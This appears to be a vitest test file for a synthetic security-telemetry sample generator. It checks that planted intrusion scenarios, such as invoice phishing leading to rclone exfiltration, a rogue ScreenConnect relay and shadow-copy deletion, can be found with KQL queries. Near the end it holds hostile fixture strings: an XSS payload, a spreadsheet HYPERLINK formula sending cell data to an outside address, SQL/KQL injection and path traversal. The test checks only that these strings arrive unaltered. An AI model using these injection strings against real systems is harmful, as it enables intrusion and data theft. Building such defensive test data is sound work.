import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { createEmbeddedEngine } from '@/lib/engines/embedded/engine.server';
import { tableFiles, tableFolders } from '@/lib/engines/embedded/folders';
import { openStaging } from '@/lib/engines/embedded/staging.server';
import { localIdentity } from '@/lib/engines/identity';
import type { Cell } from '@/lib/kql/model';
import { isSampleDue } from './due';
import { makeSample } from './make.server';
import { SAMPLE_NOW, sampleDataDir } from './testing';

const now = SAMPLE_NOW;
const root = mkdtempSync(path.join(os.tmpdir(), 'sample-'));
const dataDir = await sampleDataDir('sample');
const engine = createEmbeddedEngine(dataDir);

afterAll(() => {
  for (const folder of [root, dataDir]) rmSync(folder, { recursive: true, force: true });
});

const ask = async (kql: string): Promise<Cell[][]> => (await engine.query(kql, { now, identity: localIdentity })).rows;
const column = async (kql: string) => (await ask(kql)).map(([cell]) => cell);
const number = async (kql: string) => Number((await ask(kql))[0]?.[0]);

test('the same now gives the same bytes', async () => {
  const second = path.join(root, 'second');
  await makeSample(second, now);
  const digests = (dir: string) =>
    tableFolders(dir).flatMap((table) =>
      tableFiles(dir, table).map((file) => createHash('sha256').update(readFileSync(file)).digest('hex')),
    );
  expect(digests(second)).toEqual(digests(dataDir));
  expect(digests(dataDir)).toHaveLength(4);
}, 120_000);

test('it is 30 days of a company that end now', async () => {
  expect(engine.sample()).toBe(true);
  const tables = (await engine.tables({ now, identity: localIdentity })).filter(({ present }) => present);
  expect(tables.map(({ name }) => name).sort()).toEqual(tableFolders(dataDir).sort());
  for (const { name, rows, firstEvent, lastEvent, fault } of tables) {
    expect(fault).toBeNull();
    expect(Number(rows), name).toBeGreaterThan(20_000);
    expect(firstEvent && firstEvent >= '2026-02-08T12:00:00.0000000Z', name).toBe(true);
    expect(lastEvent && lastEvent <= now && lastEvent > '2026-03-10T10:00:00', name).toBe(true);
  }
  expect(await number('DeviceInfo | summarize dcount(DeviceId)')).toBe(404);
  const [weekday = 0, sunday = 0] = (
    await ask(
      'DeviceProcessEvents | where FileName == "OUTLOOK.EXE" | summarize n = count() by d = startofday(Timestamp) | where d in (datetime(2026-03-04), datetime(2026-03-08)) | sort by d asc',
    )
  ).map(([, n]) => Number(n));
  expect(weekday).toBeGreaterThan(10 * sunday);
});

test('identities are unique, ReportIds are not, and some are beyond 2^53', async () => {
  for (const table of ['DeviceProcessEvents', 'DeviceNetworkEvents', 'DeviceFileCertificateInfo', 'DeviceInfo'])
    expect(await ask(`${table} | summarize n = count() by DeviceId, Timestamp, ReportId | where n > 1 | take 3`), table).toEqual(
      [],
    );
  expect(await number('DeviceProcessEvents | summarize n = count() by DeviceId, ReportId | where n > 1 | count')).toBeGreaterThan(
    1000,
  );
  expect(await number('DeviceProcessEvents | where ReportId > 9007199254740992 | summarize dcount(DeviceId)')).toBeGreaterThan(
    10,
  );
  expect(await number('DeviceProcessEvents | where tostring(Timestamp) !endswith "0Z" | count')).toBeGreaterThan(100_000);
});

test('addresses are reserved ones', async () => {
  const reserved = String.raw`^(10\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.)`;
  expect(await ask(`DeviceNetworkEvents | where not(RemoteIP matches regex @'${reserved}') | take 3`)).toEqual([]);
  expect(await ask(`DeviceInfo | where isnotempty(PublicIP) and not(PublicIP matches regex @'${reserved}') | take 3`)).toEqual(
    [],
  );
});

test('what started a process is itself in the telemetry, unless it runs since the device was started', async () => {
  const orphans = await column(`
    DeviceProcessEvents
    | where InitiatingProcessCreationTime > ago(29d)
    | join kind=leftanti (DeviceProcessEvents | project DeviceId, ProcessId, ProcessCreationTime)
      on DeviceId, $left.InitiatingProcessId == $right.ProcessId, $left.InitiatingProcessCreationTime == $right.ProcessCreationTime
    | summarize count() by FileName`);
  expect(orphans).toEqual([]);
  const connections = await number(`
    DeviceNetworkEvents
    | where isnotempty(InitiatingProcessFileName) and InitiatingProcessCreationTime > ago(29d)
    | join kind=leftanti (DeviceProcessEvents | project DeviceId, ProcessId, ProcessCreationTime)
      on DeviceId, $left.InitiatingProcessId == $right.ProcessId, $left.InitiatingProcessCreationTime == $right.ProcessCreationTime
    | count`);
  expect(connections).toBe(0);
});

const onDevice = (host: string, since: string) => `where DeviceName startswith '${host}' and Timestamp > ${since}`;

test('the invoice can be followed from the mail to the exfiltration', async () => {
  const steps = await column(`
    DeviceProcessEvents | ${onDevice('ws-fin-014', 'datetime(2026-03-06)')}
    | where FileName in ('wscript.exe', 'AnyDesk.exe', 'rclone.exe') or ProcessCommandLine has_any ('Enc', 'MiniDump', 'sync', 'domain_trusts')
    | sort by Timestamp asc | project FileName`);
  expect(steps).toEqual([
    'wscript.exe',
    'powershell.exe',
    'AnyDesk.exe',
    'schtasks.exe',
    'AnyDesk.exe',
    'AnyDesk.exe',
    'nltest.exe',
    'rundll32.exe',
    'rclone.exe',
    'AnyDesk.exe',
  ]);
  const parents = await column(`
    DeviceProcessEvents | ${onDevice('ws-fin-014', 'datetime(2026-03-06)')} | where FolderPath has 'Temp' and FileName == 'AnyDesk.exe'
    | project strcat(InitiatingProcessParentFileName, ' > ', InitiatingProcessFileName, ' > ', FileName)`);
  expect(parents).toEqual(['wscript.exe > powershell.exe > AnyDesk.exe']);
  const remote = `DeviceNetworkEvents | ${onDevice('ws-fin-014', 'datetime(2026-03-06)')} | where RemoteUrl has 'anydesk' or RemoteUrl has 'dropzone'`;
  expect(await number(`${remote} | summarize dcount(RemoteUrl)`)).toBe(3);
  expect(
    await number(
      `DeviceFileCertificateInfo | ${onDevice('ws-fin-014', 'datetime(2026-03-06)')} | where Signer has 'AnyDesk' | count`,
    ),
  ).toBe(1);
});

test('the rogue relay stands out by its host and moves to two servers', async () => {
  const hosts = await ask(`
    DeviceProcessEvents | where FileName == 'ScreenConnect.ClientService.exe'
    | extend relay = extract('h=([^&]+)', 1, ProcessCommandLine)
    | summarize devices = dcount(DeviceId), servers = dcountif(DeviceId, DeviceName startswith 'srv-') by relay | sort by devices desc`);
  expect(hosts.slice(0, 1)).toEqual([['haldenmarsh.screenconnect.com', expect.stringMatching(/^\d{2,}$/), '0']]);
  expect(hosts.slice(1)).toEqual([['instance-q7w2kx-relay.screenconnect.com', '3', '2']]);
  const deleted = await ask(`
    DeviceProcessEvents | where ProcessCommandLine has_all ('delete', 'shadows')
    | project DeviceName, AccountName, IsProcessRemoteSession, ProcessRemoteSessionDeviceName, InitiatingProcessFileName`);
  expect(deleted).toEqual([
    ['srv-fs-002.corp.haldenmarsh.example', 'adm-karin', true, 'ws-sal-031.corp.haldenmarsh.example', 'powershell.exe'],
  ]);
});

test('the sleeper slept, woke at night, and is new on a domain controller in this shift', async () => {
  const days = await column(`
    DeviceProcessEvents | ${onDevice('srv-sql-002', 'ago(30d)')} | where ProcessVersionInfoCompanyName has 'realvnc'
    | distinct d = startofday(Timestamp) | sort by d asc`);
  expect(days.map((day) => String(day).slice(0, 10))).toEqual(['2026-02-12', '2026-03-07', '2026-03-08', '2026-03-09']);
  const fresh = await ask(`
    DeviceProcessEvents | where ProcessVersionInfoCompanyName has 'Atera Networks' | summarize FirstSeen = min(Timestamp) by DeviceName | where FirstSeen > ago(12h)`);
  expect(fresh).toContainEqual(['srv-dc-001.corp.haldenmarsh.example', expect.stringMatching(/^2026-03-10T07:/)]);
});

test('the seed’s five false positives are there', async () => {
  const found = await column(`
    DeviceProcessEvents | where InitiatingProcessVersionInfoCompanyName has 'realvnc' or ProcessCommandLine has 'maintenance'
    | where ProcessCommandLine has_any ('msi', 'log_cleanup', 'advfirewall', 'patch_deployer', 'vmhealth')
    | distinct FileName | sort by FileName asc`);
  expect(found).toEqual(['cmd.exe', 'msiexec.exe', 'netsh.exe', 'patch_deployer.exe', 'vmhealth.exe']);
});

test('hostile text arrives as it was written', async () => {
  const names = await column(
    `DeviceProcessEvents | where DeviceName !endswith '.example' and DeviceName != 'srv-print-004' | distinct DeviceName | sort by DeviceName asc`,
  );
  expect(names).toEqual([
    '..\\..\\windows\\system32',
    '<img src=x onerror=alert(document.domain)>',
    '=HYPERLINK("http://203.0.113.66/?"&A1,"open")',
    "x' or 1=1 | where DeviceName has '\"; DROP TABLE DeviceInfo; --",
  ]);
  expect(
    await number(
      String.raw`DeviceProcessEvents | where ProcessCommandLine contains "\u202e" and ProcessCommandLine contains "\u2066" | count`,
    ),
  ).toBe(4);
});

test('it is not mixed with somebody’s own telemetry, which takes its place', async () => {
  const own = path.join(root, 'own');
  const staging = await openStaging(own);
  await staging.writeTable('DeviceInfo', "SELECT 638000000000000000 AS Timestamp, 'd' AS DeviceId, 1::BIGINT AS ReportId");
  await staging.commit();
  await expect(makeSample(own, now)).rejects.toMatchObject({ kind: 'conflict' });
  expect(isSampleDue(own, now)).toBe(false);
});

test('it is due where there is nothing, and again when it has aged', () => {
  expect(isSampleDue(path.join(root, 'nowhere'), now)).toBe(true);
  expect(isSampleDue(dataDir, now)).toBe(false);
  expect(isSampleDue(dataDir, '2026-03-11T11:00:00.0000000Z')).toBe(false);
  expect(isSampleDue(dataDir, '2026-03-12T12:00:00.0000000Z')).toBe(true);
  expect(isSampleDue(dataDir, '2026-03-01T12:00:00.0000000Z')).toBe(true);
});

test('it can be stopped, and then there is nothing', async () => {
  const dir = path.join(root, 'stopped');
  const controller = new AbortController();
  const making = makeSample(dir, now, { signal: controller.signal });
  setTimeout(() => controller.abort(), 300);
  await expect(making).rejects.toMatchObject({ kind: 'cancelled' });
  expect(existsSync(path.join(dir, 'telemetry')) ? readdirSync(path.join(dir, 'telemetry')) : []).toEqual([]);
});
